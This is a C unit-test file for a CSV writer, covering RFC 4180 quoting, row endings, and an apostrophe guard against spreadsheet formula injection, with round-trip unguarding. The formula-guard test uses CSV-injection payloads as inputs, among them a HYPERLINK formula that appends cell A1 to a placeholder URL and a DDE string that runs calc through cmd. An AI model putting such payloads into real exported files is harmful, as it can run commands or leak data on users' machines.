/* Unit tests for core/csv: RFC 4180 quoting and row ends, byte for byte;
 * cells a spreadsheet would run as formulas guarded, and read back. */
#include "unit.h"

#include "base/csv.h"

/* One field written first in a row. */
static void
field_is(const char *value, const char *want)
{
	struct buf b = {0};

	csv_field(&b, value, true);
	assert_string_equal(buf_str(&b), want);
	buf_free(&b);
}

static void
test_plain_fields(void **state)
{
	(void)state;
	field_is("abc", "abc");
	field_is("真柴市民センター", "真柴市民センター");
	field_is("a b", "a b");		/* inner spaces need no quotes */
	field_is("2026-04-01", "2026-04-01");
	field_is("'quote'", "'quote'");	/* only double quotes matter */
}

static void
test_quoting(void **state)
{
	(void)state;
	field_is("a,b", "\"a,b\"");
	field_is("say \"hi\"", "\"say \"\"hi\"\"\"");
	field_is("\"", "\"\"\"\"");
	field_is("line1\nline2", "\"line1\nline2\"");
	field_is("line1\r\nline2", "\"line1\r\nline2\"");
	field_is("cr\ronly", "\"cr\ronly\"");
	field_is(" lead", "\" lead\"");
	field_is("trail ", "\"trail \"");
	field_is(" ", "\" \"");
	field_is("会議,準備会", "\"会議,準備会\"");
}

static void
test_empty_and_null(void **state)
{
	struct buf b = {0};

	(void)state;
	/* An empty value and a missing one are both an empty field (the header
	 * quotes only commas, quotes, line breaks and edge spaces); either way
	 * the row keeps its columns. */
	field_is("", "");
	field_is(NULL, "");
	csv_field(&b, "a", true);
	csv_field(&b, NULL, false);
	csv_field(&b, "", false);
	csv_field(&b, "b", false);
	csv_field(&b, NULL, false);
	csv_end_row(&b);
	assert_string_equal(buf_str(&b), "a,,,b,\r\n");
	buf_free(&b);
}

static void
test_rows(void **state)
{
	struct buf b = {0};

	(void)state;
	csv_field(&b, "id", true);
	csv_field(&b, "title", false);
	csv_field(&b, "room", false);
	csv_end_row(&b);
	csv_field(&b, "0b1c", true);
	csv_field(&b, "第1回 円卓会議, 臨時", false);
	csv_field(&b, " 大会議室", false);
	csv_end_row(&b);
	csv_field(&b, NULL, true);
	csv_end_row(&b);
	assert_string_equal(buf_str(&b),
	    "id,title,room\r\n"
	    "0b1c,\"第1回 円卓会議, 臨時\",\" 大会議室\"\r\n"
	    "\r\n");
	buf_free(&b);
}

/* OWASP's CSV-injection list: a cell starting with =, +, -, @, TAB or CR
 * is written after an apostrophe, so a spreadsheet shows it as text. */
static void
test_formulas_guarded(void **state)
{
	(void)state;
	field_is("=HYPERLINK(\"http://x\"&A1,\"y\")",
	    "\"'=HYPERLINK(\"\"http://x\"\"&A1,\"\"y\"\")\"");
	field_is("=1+1", "'=1+1");
	field_is("@SUM(1)", "'@SUM(1)");
	field_is("+1", "'+1");
	field_is("-1+1", "'-1+1");
	field_is("-", "'-");
	field_is("--5", "'--5");
	field_is("-5-", "'-5-");
	field_is("-1.", "'-1.");
	field_is("-1e5", "'-1e5");
	field_is("=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0");
	field_is("\tx", "'\tx");
	field_is("\rx", "\"'\rx\"");		/* quoted for the CR, guarded inside */
	field_is("=a,b", "\"'=a,b\"");
	field_is("-x ", "\"'-x \"");
	/* Apostrophes before such a character get one more, so reading back
	 * takes off only the one added. */
	field_is("'=x", "''=x");
	field_is("''@x", "'''@x");
}

/* A number, negative included, is not a formula: Excel must read
 * -4900000 (a grant's remaining money) as a number. */
static void
test_numbers_not_guarded(void **state)
{
	(void)state;
	field_is("-4900000", "-4900000");
	field_is("-12.5", "-12.5");
	field_is("0", "0");
	field_is("4900000", "4900000");
	field_is("-0", "-0");
	/* Text that only looks near a formula is left alone. */
	field_is("'quoted", "'quoted");
	field_is("a=b", "a=b");
	field_is("'-5", "'-5");
	field_is("メール@example", "メール@example");
	assert_false(csv_guarded(""));
	assert_false(csv_guarded("'"));
	assert_false(csv_guarded("-4900000"));
	assert_true(csv_guarded("-4900000x"));
}

/* csv_unguard undoes exactly what csv_field added. */
static void
test_unguard(void **state)
{
	static const char *const cells[] = {
		"=HYPERLINK(\"http://x\"&A1,\"y\")", "@SUM(1)", "+1", "-1+1", "-4900000",
		"\tx", "\rx", "'quoted", "'", "''", "'=x", "''=x", "'-5", "-", "plain", "",
		"真柴", "'真柴", "@", "'@",
	};
	char guarded[128];
	size_t i;

	(void)state;
	for (i = 0; i < sizeof cells / sizeof cells[0]; i++) {
		snprintf(guarded, sizeof guarded, "%s%s", csv_guarded(cells[i]) ? "'" : "",
		    cells[i]);
		if (strcmp(csv_unguard(guarded), cells[i]) != 0)
			fail_msg("\"%s\" written as \"%s\" reads back as \"%s\"", cells[i],
			    guarded, csv_unguard(guarded));
	}
	assert_string_equal(csv_unguard("'=1"), "=1");
	assert_string_equal(csv_unguard("'\tx"), "\tx");
	assert_string_equal(csv_unguard("'quoted"), "'quoted");
	assert_string_equal(csv_unguard("'-4900000"), "'-4900000");
	assert_string_equal(csv_unguard("''=x"), "'=x");
	assert_string_equal(csv_unguard("=1"), "=1");
}

int
main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_plain_fields),
		cmocka_unit_test(test_quoting),
		cmocka_unit_test(test_empty_and_null),
		cmocka_unit_test(test_rows),
		cmocka_unit_test(test_formulas_guarded),
		cmocka_unit_test(test_numbers_not_guarded),
		cmocka_unit_test(test_unguard),
	};

	unit_init();
	return cmocka_run_group_tests(tests, NULL, NULL);
}
